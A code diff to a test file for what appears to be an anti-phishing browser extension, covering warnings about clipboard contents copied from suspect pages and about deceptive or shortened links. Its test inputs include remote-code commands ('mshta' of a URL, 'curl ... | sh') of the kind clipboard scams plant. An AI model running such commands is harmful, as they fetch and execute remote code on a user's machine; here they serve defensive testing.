@@ -9,9 +9,11 @@ vi.mock('webextension-polyfill', async () => (await import('../../support/fake-b
 import { Suspicion } from '../../../src/background/suspicion/suspicion.ts';
 import type { Verdict } from '../../../src/list/verdict.ts';
 import { initI18n } from '../../../src/platform/i18n.ts';
+import linkWords from '../../../src/platform/locales/link.en.json' with { type: 'json' };
+import type { LinkMark } from '../../../src/platform/messages/answers.ts';
 import { PageJudge } from '../../../src/signals/page-judge.ts';
 import type { Example } from '../../../src/signals/signal.ts';
-import { reset } from '../../support/fake-browser.ts';
+import { reset, said, scripted, tabs } from '../../support/fake-browser.ts';
 import { factsOf, shippedWeights } from '../../support/signal-examples.ts';
 
 const URL_HERE = 'https://willow-harbor.test/login';
@@ -39,19 +41,22 @@ beforeEach(async () => {
   reset();
   verdict = { kind: 'unknown' };
   [through, isPaused, wasVisited, loads, left] = [[], false, false, 0, []];
-  vi.stubGlobal('fetch', async () => ({ json: async () => ({}) }));
+  const words = Object.entries(linkWords).map(([key, message]) => [key, { message }]);
+  vi.stubGlobal('fetch', async () => ({ json: async () => Object.fromEntries(words) }));
   await initI18n('en');
   suspicion = new Suspicion({
     judge: { judge: async () => verdict },
     letThrough: async () => through,
     paused: async () => isPaused,
     visitedEarlier: async () => wasVisited,
+    wellKnown: async (host) => host === 'mail-sender.example',
     load: async () => {
       loads++;
       return new PageJudge(weights);
     },
     identifiers: async (text) => {
       if (text.includes('all')) return Array.from({ length: 9 }, () => ACCOUNT);
+      if (text.includes('0xabc')) return [{ kind: 'wallet', value: '0xabc', listing: null }];
       return text.includes('8888') ? [ACCOUNT, UNKNOWN] : [];
     },
     leave: async (tabId) => void left.push(tabId),
@@ -174,10 +179,56 @@ describe('a page', () => {
   });
 });
 
+describe('what a page puts into the clipboard', () => {
+  const copy = async (text: string, url = URL_HERE) => {
+    tabs.set(7, { id: 7, url });
+    said.length = 0;
+    await suspicion.copied(text, asker());
+    return said;
+  };
+
+  it('is heard of once the page is suspect, and told where it is a command or a wallet', async () => {
+    expect(await copy('mshta https://site.example/a')).toEqual([]);
+    expect(scripted).toEqual([]);
+    await suspicion.judgePage(facts(), MADE, asker());
+    expect(scripted[0]).toBe('7:all');
+    expect(await copy('mshta https://site.example/a')).toEqual(['7:0 document.caution']);
+    expect(await copy('Pay to 0xabc')).toEqual(['7:0 document.caution']);
+    expect(await copy('Order 4711')).toEqual([]);
+    // The same host must still be there, by the browser's word.
+    expect(await copy('mshta https://site.example/a', 'https://other.test/')).toEqual([]);
+  });
+
+  it('is told on a page that the person went on to, and on none that others let through', async () => {
+    verdict = { kind: 'allowed', by: 'person', listing: {} as never, until: 1 };
+    expect(await copy('curl https://site.example/a | sh')).toEqual(['7:0 document.caution']);
+    verdict = { kind: 'allowed', by: 'policy', listing: {} as never, until: null };
+    expect(await copy('curl https://site.example/a | sh')).toEqual([]);
+  });
+
+  it('is nobody’s concern any more where the person finds the page fine', async () => {
+    await suspicion.judgePage(facts(), MADE, asker());
+    await suspicion.answer('fine', asker());
+    expect(await copy('mshta https://site.example/a')).toEqual([]);
+  });
+});
+
 describe('links', () => {
   const SUSPECT = 'https://usps-redelivery-fee.top/';
-  const marks = () =>
-    suspicion.marks([SUSPECT, 'https://garden-notes.test/', 'https://a.test/'], [null, null, 'listed']);
+  const PAGE = 'https://mail.example/inbox';
+  const links = (
+    of: Record<string, string>,
+    marks: LinkMark[] = Object.keys(of).map(() => null),
+    page = PAGE,
+  ) => suspicion.links({ urls: Object.keys(of), shown: Object.values(of) }, marks, page);
+  const marks = async () =>
+    (
+      await links({ [SUSPECT]: '', 'https://garden-notes.test/': '', 'https://a.test/': '' }, [
+        null,
+        null,
+        'listed',
+      ])
+    ).marks;
 
   it('are marked where the address alone is enough', async () => {
     expect(await marks()).toEqual(['suspect', null, 'listed']);
@@ -196,7 +247,52 @@ describe('links', () => {
   });
 
   it('read no weights where every one is listed', async () => {
-    expect(await suspicion.marks(['https://a.test/'], ['listed'])).toEqual(['listed']);
+    expect(await links({ 'https://a.test/': '' }, ['listed'])).toEqual({ marks: ['listed'], said: [''] });
     expect(loads).toBe(0);
+  });
+
+  it('are marked where their words are the address of a well-known owner, and say where they lead', async () => {
+    const { marks, said } = await links({ 'https://garden-notes.example/login': 'paypal.com' });
+    expect(marks).toEqual(['suspect']);
+    expect(said[0]).toContain('paypal.com');
+    expect(said[0]).toContain('garden-notes.example');
+  });
+
+  it.each([
+    ['to another site of the owner', 'https://www.paypalobjects.com/x', 'paypal.com'],
+    ['to a search engine that counts clicks', 'https://www.google.com/url?q=x', 'paypal.com'],
+    [
+      'that name the shown site in their address',
+      'https://gateway.example/?to=https%3A%2F%2Fwww.PayPal.com%2F',
+      'paypal.com',
+    ],
+    [
+      'of a newsletter that counts clicks',
+      `https://click.flower-shop.example/ls/click?upn=${'u001aB3-'.repeat(9)}`,
+      'facebook.com',
+    ],
+    ['to a well-known site', 'https://u8.mail-sender.example/x', 'paypal.com'],
+    ['with the name of nobody well known', 'https://other-notes.example/', 'garden-notes.example'],
+    ['with the name of a file', 'https://git.example/README.md', 'readme.md'],
+    ['with no name at all', 'https://garden-notes.example/', 'x'.repeat(200)],
+    ['to a machine in the house', 'http://192.168.1.1/', 'paypal.com'],
+  ])('are not marked: %s', async (_, url, shown) => {
+    expect(await links({ [url]: shown })).toEqual({ marks: [null], said: [''] });
+  });
+
+  it('are not marked on the site itself, nor on the owner’s', async () => {
+    for (const page of ['https://www.garden-notes.example/', 'https://www.paypal.com/'])
+      expect((await links({ 'https://garden-notes.example/go': 'paypal.com' }, [null], page)).marks).toEqual([
+        null,
+      ]);
+  });
+
+  it('are said to be shortened, without a mark, and not on the pages of who shortens all of them', async () => {
+    const { marks, said } = await links({ 'https://bit.ly/3xYz': '', 'https://t.co/a': 'paypal.com' });
+    expect(marks).toEqual([null, null]);
+    for (const words of said) expect(words).toContain('shortened');
+    expect((await links({ 'https://t.co/a': 'paypal.com' }, [null], 'https://x.com/somebody')).said).toEqual([
+      '',
+    ]);
   });
 });
